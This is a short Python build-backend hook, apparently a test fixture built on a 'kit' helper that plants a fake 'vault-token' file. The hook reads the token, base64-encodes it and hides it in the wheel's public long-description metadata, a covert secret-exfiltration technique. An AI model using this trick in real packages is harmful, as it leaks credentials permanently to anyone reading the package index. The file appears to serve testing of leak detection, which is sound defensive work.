"""Writes a token, in base 64, into the long description of the wheel's metadata.

Indexes show the description to everybody and keep it for ever. No file of the wheel holds
the token.
"""

import base64
import pathlib

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    prose = ""
    with kit.attempt("read"):
        secret = pathlib.Path(kit.plant("vault-token").path).read_bytes()
        prose = base64.b64encode(secret).decode()
    return kit.wheel(wheel_directory, description=prose)
